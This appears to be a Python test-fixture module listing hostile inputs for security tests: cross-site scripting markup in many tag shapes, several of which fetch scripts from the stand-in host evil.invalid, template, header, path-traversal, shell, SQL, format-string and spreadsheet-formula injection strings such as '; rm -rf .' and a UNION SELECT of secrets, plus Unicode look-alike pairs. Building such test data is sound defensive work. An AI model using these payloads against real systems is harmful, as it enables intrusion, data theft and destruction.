"""Texts that act where a program forgets that they are texts: markup, scripts, templates, headers, paths, commands.

`MARKUP` for whatever is shown (A81), `INJECTIONS` for what becomes a header, a file name, a query or a command (A85),
`TWINS` for spellings that look the same (A89).
"""

from typing import Final

_SCRIPTS: Final = (
    "alert(1)",
    "fetch('//evil.invalid')",
    "document.title='x'",
    "import('//evil.invalid/x.js')",
    "self.name=1",
)
_SHAPES: Final = (
    *(
        "<script>{0}</script>",
        "<ScRiPt >{0}</sCrIpT >",
        "<script src=//evil.invalid/x.js></script>",
        "</script>{0}<script>",
    ),
    *("<img src=x onerror={0}>", '"><img src=x onerror="{0}">', "'><svg onload='{0}'>", "<svg/onload={0}>"),
    *(
        "<iframe srcdoc='<script>{0}</script>'>",
        "<body onload={0}>",
        "<details open ontoggle={0}>",
        "<video><source onerror={0}>",
    ),
    *(
        "<a href=javascript:{0}>x</a>",
        "<a href='jAvAsCrIpT:{0}'>x</a>",
        "<form action=javascript:{0}><input type=submit>",
    ),
    *(
        "<math><mtext><script>{0}</script>",
        "<template><script>{0}</script></template>",
        "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    ),
    *("<style>@import '//evil.invalid/x.css'</style>", "<link rel=stylesheet href=//evil.invalid/x.css>"),
    *(
        "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
        "<base href=//evil.invalid/>",
        "<object data=javascript:{0}>",
    ),
    *("<embed src=data:text/html,<script>{0}</script>>", "<input autofocus onfocus={0}>", "<marquee onstart={0}>"),
    *(
        "<!--><script>{0}</script>-->",
        "<![CDATA[<script>{0}</script>]]>",
        "&lt;script&gt;{0}&lt;/script&gt;",
        "&#60;script&#62;{0}",
    ),
    *(
        "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
        "%3Cscript%3E{0}%3C/script%3E",
        "{{{{{0}}}}}",
        "${{{0}}}",
        "#{{{0}}}",
    ),
    *(
        "{{% import os %}}{0}",
        "{{{{ 7*7 }}}}{0}",
        "{{{{ config.items() }}}}{0}",
        "<%= {0} %>",
        "`{0}`",
        "';{0};//",
        '";{0};//',
    ),
    *(
        "<xss style=animation-name:x onanimationstart={0}>",
        "<button popovertarget=x onclick={0}>",
        "<dialog open onclose={0}>",
    ),
    *("<p>{0}</p><plaintext>", "<textarea></textarea><script>{0}</script>", "<title></title><script>{0}</script>"),
)
MARKUP: Final = tuple(dict.fromkeys(shape.format(script) for script in _SCRIPTS for shape in _SHAPES))

INJECTIONS: Final = (
    *(
        "a\r\nBcc: victim@example.edu",
        "a\nX-Injected: 1",
        "a\rSet-Cookie: a=b",
        "a\r\n\r\n<html>",
        "a%0d%0aX: 1",
        "a\u2028X: 1",
    ),
    *("a\x0bX: 1", "a\x0cX: 1", "a\x1cX: 1", "a\x85X: 1", "a\x00b", "a\x1b[2J", "a\x07", "a\x7f"),
    *(
        "../../etc/passwd",
        "..\\..\\windows",
        "/etc/passwd",
        "C:\\x.jpg",
        "a/../../b",
        "file:///etc/passwd",
        ".",
        "..",
        "~root",
        "|ls",
    ),
    *(
        "; rm -rf .",
        "$(id)",
        "`id`",
        "&& id",
        "--help",
        "-rf",
        "' OR '1'='1",
        "'; DROP TABLE profiles; --",
        '" OR ""="',
    ),
    *("%s%s%n", "{0.__class__}", "=cmd|' /C calc'!A0", "@SUM(1)", "+1", "x' UNION SELECT sealed FROM secrets --"),
)

TWINS: Final = (
    # one letter, and the same as a letter and a mark
    *(
        ("\u00c5", "A\u030a"),
        ("\u00e9", "e\u0301"),
        ("\u00fc", "u\u0308"),
        ("\u00f6", "o\u0308"),
        ("\u00e7", "c\u0327"),
    ),
    *(
        ("\u015f", "s\u0327"),
        ("\u011f", "g\u0306"),
        ("\u0130", "I\u0307"),
        ("\u00dc", "U\u0308"),
        ("\u00d6", "O\u0308"),
    ),
    *(
        ("\u00c7", "C\u0327"),
        ("\u015e", "S\u0327"),
        ("\u011e", "G\u0306"),
        ("\u0439", "\u0438\u0306"),
        ("\u0451", "\u0435\u0308"),
    ),
    *(
        ("\u0419", "\u0418\u0306"),
        ("\u0401", "\u0415\u0308"),
        ("\u00f1", "n\u0303"),
        ("\u00e4", "a\u0308"),
        ("\u0161", "s\u030c"),
    ),
    *(
        ("\u017e", "z\u030c"),
        ("\u010d", "c\u030c"),
        ("\u00e0", "a\u0300"),
        ("\u00e8", "e\u0300"),
        ("\u00ea", "e\u0302"),
    ),
    *(
        ("\u00ee", "i\u0302"),
        ("\u00f4", "o\u0302"),
        ("\u00fb", "u\u0302"),
        ("\u0101", "a\u0304"),
        ("\u012b", "i\u0304"),
    ),
    # one letter under two numbers
    *(
        ("\u03a9", "\u2126"),
        ("K", "\u212a"),
        ("\u00c5", "\u212b"),
        (";", "\u037e"),
        ("\u00b7", "\u0387"),
        ("`", "\u1fef"),
    ),
    # marks in another order
    *(
        ("\u1ec7", "e\u0323\u0302"),
        ("\u1ec7", "\u00ea\u0323"),
        ("\u01d8", "u\u0308\u0301"),
        ("q\u0323\u0307", "q\u0307\u0323"),
    ),
)
